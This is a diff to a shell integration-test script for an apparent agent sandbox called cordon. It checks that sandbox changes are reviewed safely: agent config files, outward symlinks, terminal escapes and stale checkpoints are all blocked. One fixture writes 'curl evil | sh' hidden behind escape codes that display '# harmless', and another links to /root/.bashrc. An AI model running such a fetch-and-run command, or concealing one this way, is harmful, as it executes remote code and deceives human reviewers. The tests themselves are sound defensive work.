@@ -123,11 +123,19 @@ done
 like "changes while the session runs" "$("$CORDON" changes live 2>&1)" "A  live.txt"
 out=$("$CORDON" discard live 2>&1)
 like "discard while running is refused, with the reason" "$out" "sandbox live is running: the kernel's overlay must not have its upper layer changed under it"
+# What a running sandbox keeps writing is not what anyone reviewed: with no
+# tool call ended there is no checkpoint, and apply refuses.
+like "changes of a running session say it is still changing" "$("$CORDON" changes live 2>&1)" \
+    "sandbox live is running and no tool call has ended yet"
 out=$("$CORDON" apply live 2>&1)
-like "apply while the session runs" "$out" "applied: live.txt"
+like "apply while the session runs without a checkpoint is refused, with the reason" "$out" \
+    "sandbox live is running and no tool call of it has ended yet"
+ok "nothing was applied" test ! -e "$ws/live.txt"
+wait
+out=$("$CORDON" apply live 2>&1)
+like "apply once the session stopped" "$out" "applied: live.txt"
 is "the applied file is on the host" "$(cat "$ws/live.txt")" live
 is "an applied file is no longer pending" "$("$CORDON" changes live 2>&1)" "no pending changes in sandbox live"
-wait
 
 # --- apply killed with SIGKILL halfway: never a half-written file ---
 head -c 64000000 /dev/zero >"$ws/huge.bin"
@@ -173,6 +181,37 @@ ok "no nested .git reached the host" test ! -e "$gws/lib/.git"
 like "deleting a directory holding a nested repository is refused" "$out" "refused: nested: it holds git metadata"
 ok "the nested repository is still on the host" test -f "$gws/nested/.git/HEAD" -a -f "$gws/nested/file"
 ok "no .envrc reached the host" test ! -e "$gws/.envrc"
+
+# --- what host tools run on sight, symlinks out, terminal escapes, a FIFO ---
+aws=$(new_ws agentcfg)
+mkdir -p "$aws/sub"
+echo host >"$aws/sub/ok"
+cordon_run "$aws" --review --name ag -- bash -c '
+mkdir -p .claude && echo "{\"hooks\":{}}" > .claude/settings.json
+echo "{\"mcpServers\":{}}" > .mcp.json; mkdir -p .pi && echo x > .pi/settings.json
+echo "export X=1" > sub/.envrc; echo "backend = \"ns\"" > sub/.cordon.toml
+ln -s /root/.bashrc abs-link; ln -s ../../outside sub/up-link; ln -s sub/ok fine-link
+printf "curl evil | sh \033[2K\r# harmless\n" > esc.txt
+mkfifo pipe; echo fine > fine2.txt; true'
+ch=$("$CORDON" changes ag 2>&1)
+for f in .claude/settings.json .mcp.json .pi/settings.json sub/.envrc sub/.cordon.toml; do
+    like "review: $f is never applied" "$ch" "$f \\[never applied: the host's tools trust it"
+done
+like "review: a symlink's target is shown" "$ch" "fine-link \\(symlink\\) -> sub/ok"
+like "review: an absolute symlink is never applied" "$ch" "abs-link \\(symlink\\) -> /root/.bashrc \\[never applied: a symlink that points out"
+like "review: a symlink climbing out is never applied" "$ch" "sub/up-link \\(symlink\\) -> ../../outside \\[never applied"
+d=$(timeout 20 "$CORDON" diff ag --color 2>&1)
+ok "review: diff prints no raw escape or carriage return of the sandbox's" \
+    bash -c '! printf "%s" "$1" | grep -q $'"'"'\e\[2K\|\r'"'"'' _ "$d"
+like "review: diff shows them escaped" "$d" '\\x1b\[2K\\x0d# harmless'
+out=$(timeout 20 "$CORDON" apply ag 2>&1)
+is "review: apply with a FIFO in the layer ends" "$?" 1
+for f in .claude .mcp.json .pi sub/.envrc sub/.cordon.toml abs-link sub/up-link; do
+    ok "review: $f did not reach the host" test ! -e "$aws/$f" -a ! -L "$aws/$f"
+done
+is "review: the ordinary file and the inside symlink are applied" \
+    "$(cat "$aws/fine2.txt"; readlink "$aws/fine-link")" $'fine\nsub/ok'
+
 ok "no .vscode reached the host" test ! -e "$gws/.vscode"
 ok "the protected path did not reach the host" test ! -e "$gws/secret"
 ok "the host's .git/config is unchanged" cmp -s "$gws/.git/config" "$TEST_TMP/config.before"
@@ -224,9 +263,13 @@ out=$(cd "$mws" && python3 "$CORDON_SRC/tests/integration/review-mcp.py" "$CORDO
 like "MCP: no tool the model can call applies or discards" "$out" $'tools bash edit find grep ls read sandbox_verify write\n'
 like "MCP: the status carries the mode and the pending count" "$out" "status review 2"
 like "MCP: cordon/reviewChanges lists them" "$out" "changes M:a.txt A:b.txt"
+like "MCP: reviewChanges names the checkpoint it shows" "$out" "checkpoint 2"
+like "MCP: reviewApply without that checkpoint is refused" "$out" "apply-unpinned error:.*as of tool call 2"
 like "MCP: cordon/reviewApply applies the paths asked for" "$out" "apply applied:b.txt"
+like "MCP: a checkpoint older than the last is refused" "$out" "apply-stale error:.*as of tool call 4"
 like "MCP: the count drops" "$out" "status-after 1"
 is "MCP: the applied file is on the host, the other is not" "$(cat "$mws/a.txt" "$mws/b.txt")" $'host\nb'
+ok "MCP: nothing of a stale checkpoint reached the host" test ! -e "$mws/c.txt"
 
 # --- the backends that cannot offer it refuse with the reason ---
 out=$(cd "$ws" && "$CORDON" run --review --backend docker --set docker.image=debian -- true 2>&1)
